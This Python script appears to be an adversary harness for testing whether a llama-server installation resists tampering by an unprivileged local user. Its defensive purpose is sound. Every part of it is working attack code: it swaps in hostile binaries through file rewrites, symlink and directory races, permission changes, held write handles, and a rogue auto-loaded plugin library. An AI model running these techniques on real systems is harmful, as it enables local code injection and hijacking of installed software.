"""Tries as another user to put bytes of its own in the place of files, in every way and for ever.

    swap_attacker.py UID FOLDER PROGRAM LIBRARY SCRATCH

It drops root's rights first. It opens every file below FOLDER for writing once, before it prints
its first line, and keeps what it could open. It ends when its standard input is closed, and prints
its counts.
"""

import contextlib
import json
import os
import random
import select
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path

USER, FOLDER, SCRATCH = int(sys.argv[1]), Path(sys.argv[2]), Path(sys.argv[5])
EVIL = {True: Path(sys.argv[3]).read_bytes(), False: Path(sys.argv[4]).read_bytes()}
"""The bytes to execute by whether a program is replaced."""
STAGED = SCRATCH.with_name("staged")
"""Where it writes complete files, to move them; root made it for everybody."""
flips: list[tuple[Callable[[], object], Callable[[], object]]] = []
"""What it can change at will, and what puts that back: it lies in wait with these alone."""
tried: Counter[str] = Counter()
succeeded: Counter[str] = Counter()


def evil(path: Path) -> bytes:
    return EVIL[path.name == "llama-server"]


def staged(path: Path) -> Path:
    """Write a file of its own on the same disk."""
    own = STAGED / f"{os.getpid()}-{random.getrandbits(64):x}"
    own.write_bytes(evil(path))
    own.chmod(0o755)
    return own


def rewrite(path: Path) -> None:
    with path.open("r+b") as stream:
        stream.write(evil(path))


def truncate(path: Path) -> None:
    path.write_bytes(evil(path))


def moved_over(path: Path) -> None:
    own = staged(path)
    try:
        own.replace(path)
    finally:
        own.unlink(missing_ok=True)


def moved_away(path: Path) -> None:
    path.rename(STAGED / f"away-{random.getrandbits(64):x}")
    truncate(path)


def removed(path: Path) -> None:
    path.unlink()
    path.symlink_to(staged(path))


def opened_up(path: Path) -> None:
    path.chmod(0o777)
    rewrite(path)


def beside(path: Path) -> None:
    """A plugin more: llama-server loads every libggml-*.so of its folder."""
    (path.parent / "libggml-zz.so").write_bytes(evil(path))


def linked_elsewhere(path: Path) -> None:
    """Put a link in the place of a folder on the way to the file, and keep the folder."""
    folder = random.choice(path.parents[:5])
    away = folder.with_name(f"away-{random.getrandbits(64):x}")
    folder.rename(away)
    folder.symlink_to(away)
    twin = STAGED / away.name
    for found in away.rglob("*"):
        copy = twin / found.relative_to(away)
        copy.parent.mkdir(parents=True, exist_ok=True)
        if found.is_file():
            copy.write_bytes(evil(found))
            copy.chmod(0o755)

    def swing(to: Path) -> None:
        link = folder.with_name(f"link-{random.getrandbits(64):x}")
        link.symlink_to(to)
        link.replace(folder)

    flips.append((lambda: swing(twin), lambda: swing(away)))


WAYS: tuple[Callable[[Path], None], ...] = (
    rewrite, truncate, moved_over, moved_away, removed, opened_up, beside, linked_elsewhere,
)  # fmt: skip


def hold(path: Path) -> None:
    """Open a file for writing while that is allowed, to write to it later."""
    handle, sound = os.open(path, os.O_RDWR), path.read_bytes()
    content = evil(path)
    flips.append(
        (lambda: os.pwrite(handle, content, 0), lambda: os.pwrite(handle, sound[: len(content)], 0))
    )


def attempt(name: str, act: Callable[[], object]) -> None:
    tried[name] += 1
    with contextlib.suppress(OSError):
        act()
        succeeded[name] += 1


def main() -> None:
    """Attack until the standard input is closed."""
    os.setgroups([])
    os.setgid(USER)
    os.setuid(USER)
    files = [path for path in FOLDER.rglob("*") if path.is_file()]
    for path in files:
        attempt("opened before", lambda p=path: hold(p))
    print(json.dumps({"tried": tried}), flush=True)
    while not ended():
        if flips:  # patient: most of the time all is as it was
            put, restore = random.choice(flips)
            attempt("put for some milliseconds", put)
            time.sleep(random.random() * 0.01)
            with contextlib.suppress(OSError):
                restore()
            time.sleep(random.random() * 0.03)
            continue
        path, way = random.choice(files), random.choice(WAYS)
        attempt(way.__name__.replace("_", " "), lambda p=path, w=way: w(p))
    print(json.dumps({"tried": tried, "succeeded": succeeded}))


def ended() -> bool:
    return bool(select.select([sys.stdin], [], [], 0)[0])


main()
